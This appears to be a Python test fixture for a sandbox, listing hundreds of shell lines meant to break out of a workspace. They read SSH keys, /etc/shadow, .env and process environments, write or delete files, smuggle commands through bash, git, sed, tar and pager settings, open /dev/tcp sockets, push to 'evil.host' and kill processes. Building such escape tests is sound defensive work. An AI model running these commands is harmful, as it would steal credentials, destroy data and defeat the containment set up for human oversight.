"""Command lines that write, run, read outside, connect or signal, each by another trick: forced through a wall.

`$B` is the folder that holds the workspace. They name what `walls.hostile_folder` makes.
"""

from __future__ import annotations

INTERPRETERS = r"""
python3 -v < evil.py
cat evil.py | python3 -v
cat evil.js | node -V
cat evil.sh | bash --version
python3 -c "open('PWNED','w')"
perl -e 'open(F,">PWNED")'
awk -f evil.awk
awk 'BEGIN{print | "sh evil.sh"}'
make
npm test
python3 -m pytest
sh evil.sh
./evil.sh
. ./evil.sh
"""

READS = r"""
cat link
cat l"i"n?
cat l[^x]nk
cat 'l'ink*
cat data/../plain.txt
cat sub/out/plain.txt
cat s?b/out/plain.txt
cd -P data && cat ../plain.txt
cat < data/../plain.txt
cat "$B/outside"/s*
head '$B/outside/secret.tx'?
cat $(cat list)
xargs cat < list
wc --files0-from list0
md5sum -c list
strings @list
diff a.txt link
sort link
base64 "$B"/outside/plain.txt
grep -R TOP .
grep -r '' sub data/ link
rg -L '' .
find -L . -type f -exec cat {} +
find . -name link -exec cat {} +
find . -maxdepth 0 -exec cat {}/../outside/plain.txt \;
ls -LR .
ls -la ..
ls "$B" "$B/outside" "$B/home/.ssh"
tree -l .
du -aL .
cat ../home/.ssh/id_rsa
cat ~/.ssh/*
cat ~root/.ssh/* ~/../*/x
tar cf - ../outside | strings
cp -L link $TMPDIR/c; cat $TMPDIR/c
ln -s ../outside $TMPDIR/o; cat $TMPDIR/o/plain.txt
ln ../outside/plain.txt $TMPDIR/h; cat $TMPDIR/h
dd if=link status=none
while read x; do echo "$x"; done < link
mapfile -t x < link; echo "${x[@]}"
echo "$(< link)"
read x < link; echo $x
awk '{print}' FS=: link
sed -n p link
jq -R . link
git diff --no-index /dev/null link
git hash-object -w ../outside/plain.txt
git show :link
git -C .. ls-files -o
git grep --no-index '' ../outside
python3 -c "print(open('link').read())"
cat /proc/self/root$B/outside/plain.txt
cat /proc/1/root$B/outside/plain.txt
cat /proc/self/cwd/../outside/plain.txt
cat /dev/fd/20 <&20
cat .env
cat .en?
grep -rn KEY .
git diff --no-index /dev/null .env
cp .env $TMPDIR/e; cat $TMPDIR/e
tar cf - .env | strings
xxd .env
ps axeww
cat /proc/*/environ
env; set
cat /etc/shadow /etc/gshadow
less -f link
more link
vim -es -c '%p' -c q! link
gdb -batch -ex 'info files' link
strace -f cat link
"""

WRITES = r"""
touch PWNED
echo x > PWNED
echo x >> a.txt
: > a.txt
echo x > data/PWNED
echo x > data/../PWNED
echo x > ../PWNED
tee ../outside/PWNED < a.txt
printf x | tee link
cp a.txt PWNED
mv a.txt PWNED
rm -rf sub
rmdir -- -o
mkdir PWNED
ln -s x PWNED
sed -i s/one/x/ a.txt
sed -n 'w PWNED' a.txt
sort -o PWNED a.txt
uniq a.txt PWNED
dd if=a.txt of=PWNED status=none
truncate -s 0 a.txt
install a.txt PWNED
rsync a.txt PWNED
tar xf /dev/null; tar cf PWNED a.txt
split a.txt PWNED
xxd -r a.txt PWNED
find . -delete
find . -fprintf PWNED %p
find . -exec touch PWNED \;
chmod 777 a.txt
chmod -R 000 .
chown 1:1 a.txt
touch -d 2001-01-01 a.txt
setfattr -n user.x -v y a.txt
chattr +i a.txt
git commit --allow-empty -m x
git config user.name x
git checkout -b x
git stash
git add .
git gc
git branch -m x
git update-ref refs/heads/x HEAD
git clone . PWNED
git worktree add PWNED
echo x > .git/hooks/post-commit
mv .git x
script -c true PWNED
mkfifo PWNED
mknod PWNED p
touch ~/PWNED /tmp/PWNED /var/tmp/PWNED /dev/shm/PWNED /etc/PWNED
echo x > /proc/sys/kernel/hostname
crontab a.txt
mount -o remount,rw /
umount /tmp
"""

SHELL = r"""
echo $(touch PWNED)
cat <(touch PWNED)
x='a[$(touch PWNED)]'; echo $((x))
x='$(touch PWNED)'; echo "${x@P}"
x='a[$(touch PWNED)]'; [[ -v $x ]]
PROMPT_COMMAND='touch PWNED' bash -ic ls
BASH_ENV=evil.sh bash -c ls
PATH=.:$PATH evil.sh
GIT_EXTERNAL_DIFF=./evil.sh git diff
GIT_PAGER='touch PWNED' git -p log
LESSOPEN='|touch PWNED' less a.txt
trap 'touch PWNED' EXIT
eval touch PWNED
env touch PWNED
env -S 'touch PWNED'
xargs touch <<< PWNED
exec 3> PWNED
ls >& PWNED
{ sleep 0.2; touch PWNED; } & disown
nohup touch PWNED
setsid -f touch PWNED
coproc touch PWNED
git -c core.fsmonitor='touch PWNED' status
git -c core.pager='touch PWNED' -p log
git -c alias.x='!touch PWNED' x
git -c diff.external='touch PWNED' diff HEAD
git log --format=%+GG
"""

REACH = r"""
cat < /dev/tcp/127.0.0.1/$PORT
echo x > /dev/tcp/127.0.0.1/$PORT
echo x > /dev/udp/127.0.0.1/$UDP
curl -s http://127.0.0.1:$PORT/
curl -s --unix-socket ws.sock http://x/
wget -q -O- http://127.0.0.1:$PORT/
python3 -c "import socket; socket.create_connection(('127.0.0.1', $PORT))"
python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('ws.sock')"
python3 -c "import os, socket; s=socket.socket(socket.AF_UNIX); s.connect('\0' + os.environ['ABSTRACT'])"
python3 -c "import socket; a,b=socket.socketpair(1,2); a.sendto(b'x','dgram.sock')"
git ls-remote http://127.0.0.1:$PORT/x
git fetch ext::"touch PWNED"
git push evil.host:x main
ssh -o ConnectTimeout=1 127.0.0.1 -p $PORT
getent hosts example.org
tar tf a.host:y.tar
kill -9 $PREY
kill -STOP $PREY
pkill -9 -f 1000.25
killall -9 sleep
renice 19 -p $VICTIM
prlimit --pid $VICTIM --nofile=50:50
python3 -c "import os; os.kill($PREY, 9)"
strace -p $VICTIM
gdb -p $VICTIM -batch
logger PWNED
wall PWNED
"""

OTHER_PROGRAMS = r"""
jq --rawfile x ../outside/plain.txt -n '$x'
jq -L ../outside -n 'import "x" as x; 1'
jq -Rn '[inputs]' link
awk '{print > "PWNED"}' a.txt
awk '@include "evil"; 1' a.txt
awk -v f=../outside/plain.txt 'BEGIN{while((getline l<f)>0)print l}'
sed -n '1w PWNED' a.txt
sed '1R link' a.txt
sed '1e cat link' a.txt
sort --random-s=link -R a.txt
sort --compress-program=./evil.sh -S 1 a.txt
tar xf a.tar --to-command=./evil.sh
tar tf a.tar --checkpoint=1 --checkpoint-action=exec=./evil.sh
tar -T list -cO
xargs -a list cat
env -S 'cat link'
env -C ../outside cat plain.txt
git --config-env=core.pager=HOME log
git log -L1,1:a.txt --output=PWNED
git blame --contents=../outside/plain.txt a.txt
git hash-object --stdin < link
git interpret-trailers link
git ls-files -X link -i -o
git status --pathspec-from-file=link
rg --hostname-bin ./evil.sh --hyperlink-format='{host}' one
rg --ignore-file=link one
find . -fls PWNED
find -files0-from list0
find . -samefile link
man -P 'touch PWNED' ls
make -n --eval='$(shell touch PWNED)'
date --file=../outside/plain.txt
TZ=:$B/outside/plain.txt date
tree -lo PWNED
tree --fromfile link
column -t -s, link
diff -r . data
diff --from-file=link a.txt
cat <<< $(<../outside/plain.txt)
cat {../outside/plain,b}.txt
cat ../outs{i,x}de/plain.txt
IFS=/; x=..; cat $x/outside/plain.txt
cat ~+/link
cat $"$(touch PWNED)"
let 'a[$(touch PWNED)]=1'
printf -v 'a[$(touch PWNED)]' x
[[ -v 'a[$(touch PWNED)]' ]]
read 'a[$(touch PWNED)]' < a.txt
mapfile -C 'touch PWNED' -c 1 x < a.txt
wait -p 'a[$(touch PWNED)]' -n
declare -n x=PATH; x=.; ls
PS4='$(touch PWNED)'; set -x; ls
hash -p ./evil.sh ls; ls
CDPATH=.. cd outside && cat plain.txt
compgen -C 'touch PWNED'
compgen -G '../outside/*'
ptx -o link a.txt
split --filter='touch PWNED' a.txt
shuf --random-source=link a.txt
iconv -o PWNED a.txt
sdiff -o PWNED a.txt b.txt
dc -e '!touch PWNED'
ex -sc 'w PWNED' a.txt
sqlite3 :memory: '.shell touch PWNED'
python3 -m json.tool a.txt PWNED
zgrep TOP link
fd -x touch PWNED
"""

LINES = tuple(
    line
    for part in (INTERPRETERS, READS, WRITES, SHELL, REACH, OTHER_PROGRAMS)
    for line in part.splitlines()
    if line.strip()
)
